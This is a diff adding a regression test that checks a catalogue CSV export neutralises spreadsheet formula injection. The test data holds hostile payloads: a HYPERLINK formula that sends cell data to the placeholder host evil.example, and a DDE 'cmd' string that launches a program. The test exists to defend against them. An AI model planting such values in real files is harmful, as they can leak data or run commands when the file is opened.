@@ -1437,6 +1437,36 @@ describe('exportCatalog', () => {
     },
   );
 
+  // Issue 23 §2: these came out of the catalogue export as live formulas. Variant skus are refused
+  // on save now (§7), so they are written here as data stored before that rule.
+  test('titles and skus written as formulas come out as text, through the one CSV writer', async () => {
+    const title = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+    const type = await create({ title, sku: 'EVIL23' });
+    const skus = ["=cmd|' /C calc'!A0", '+SUM(1)', '-1+1', '@A1', '\tTAB', '\rCR'];
+    await api.server.db.insert(productTypeVariants).values(
+      skus.map((sku, i) => ({
+        productTypeId: Number(type.id),
+        sku,
+        signature: `evil-${i}`,
+        attributes: [{ name: 'Color', slug: 'color', option: sku }],
+      })),
+    );
+    const url = (
+      await api.ok<{ exportCatalog: string }>(
+        EXPORT,
+        { ids: [type.id] },
+        await special('Administrator'),
+      )
+    ).exportCatalog;
+    const csv = await (await fetch(new URL(url, api.server.url))).text();
+    // A field starts after a comma or a line break, quoted or not; none starts a formula.
+    expect(csv).not.toMatch(/(^|,|\r\n)"?[=+\-@\t\r]/);
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
+    for (const sku of ["'=cmd|' /C calc'!A0", "'+SUM(1)", "'-1+1", "'@A1"]) {
+      expect(csv).toContain(`,${sku},`);
+    }
+  });
+
   test('refused to other roles and to a seller without is_special; a paused type is not exported; ids bounded', async () => {
     for (const role of ['Listing', 'Supporter', 'Supplier', 'Accounting', 'Seller'] as const) {
       expect(await api.refused(EXPORT, { ids: [await idOfSku('MUG')] }, await token(role))).toBe(
